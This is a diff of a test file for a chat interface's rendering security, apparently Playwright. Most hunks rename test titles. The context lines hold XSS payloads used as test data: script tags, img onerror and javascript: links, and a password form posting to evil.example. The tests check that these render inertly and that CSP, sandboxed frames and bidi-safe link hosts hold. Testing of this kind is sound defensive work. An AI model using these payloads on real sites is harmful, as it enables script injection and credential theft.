@@ -14,7 +14,7 @@ const ATTACKS = [
   `<form action="https://evil.example"><input name=password></form>`,
 ];
 
-test("HTML of a model is shown as the text it is, and does nothing", async ({ chat }) => {
+test("HTML of a model is shown as text and is not executed", async ({ chat }) => {
   const reply = await chat.answered({ text: ATTACKS.join("\n\n"), rate: 0, reasoning: ATTACKS[1] });
   await expect(reply).toContainText("<script>window.attacked = 1</script>");
   await expect(reply.locator("script, img, svg:not(.icon), iframe, form, input, style, [onerror], [onmouseover], [style]")).toHaveCount(0);
@@ -37,7 +37,7 @@ const DRAWN_ATTACKS = [
   `[heading](#"><img src=x onerror=window.attacked=1>) [x](&#106;avascript:window.attacked=1) &lt;img src=x onerror=window.attacked=1&gt;`,
 ];
 
-test("formulas, notes, details and HTML that formats let nothing in", async ({ chat }) => {
+test("formulas, footnotes, details and formatting HTML execute nothing", async ({ chat }) => {
   const requests: string[] = [];
   chat.page.on("request", (request) => requests.push(request.url()));
   const reply = await chat.answered({ text: DRAWN_ATTACKS.join("\n\n"), rate: 0 });
@@ -55,7 +55,7 @@ test("formulas, notes, details and HTML that formats let nothing in", async ({ c
   expect(requests.filter((url) => !url.startsWith(chat.stack.url) && !url.startsWith("data:"))).toEqual([]);
 });
 
-test("a diagram is a picture that a frame without an origin has drawn", async ({ chat, violations }) => {
+test("a diagram is an image rendered in a frame without an origin", async ({ chat, violations }) => {
   const frames: (string | null)[] = [];
   await chat.page.exposeFunction("noteFrame", (sandbox: string | null) => frames.push(sandbox));
   await chat.page.evaluate(() => {
@@ -83,7 +83,7 @@ test("a diagram is a picture that a frame without an origin has drawn", async ({
   violations.length = 0;
 });
 
-test("huge and malicious input leaves the page alive", async ({ chat }) => {
+test("huge and malicious input does not block the page", async ({ chat }) => {
   test.slow();
   const huge = [
     "\\(".repeat(3000),
@@ -130,7 +130,7 @@ test("a link shows its host, and sends its target no referrer", async ({ chat })
   }
 });
 
-test("where a link leads is read as it is, whatever turns the text before it around", async ({ chat }) => {
+test("the host of a link keeps its direction after any text", async ({ chat }) => {
   const reply = await chat.answered({ text: "[your \u202Ebank](https://elpmaxe.example/) and so on." });
   const host = reply.locator(".host");
   await expect(host).toHaveText("(elpmaxe.example)");
@@ -145,7 +145,7 @@ test("where a link leads is read as it is, whatever turns the text before it aro
   expect(places).toEqual(places.toSorted((one, other) => one - other));
 });
 
-test("were something injected all the same, the page's policy would stop it", async ({ chat, violations }) => {
+test("the page's policy blocks an injected script", async ({ chat, violations }) => {
   const outcome = await chat.page.evaluate(async () => {
     const done: Record<string, boolean> = {};
     const attempt = (name: string, act: () => void) => {
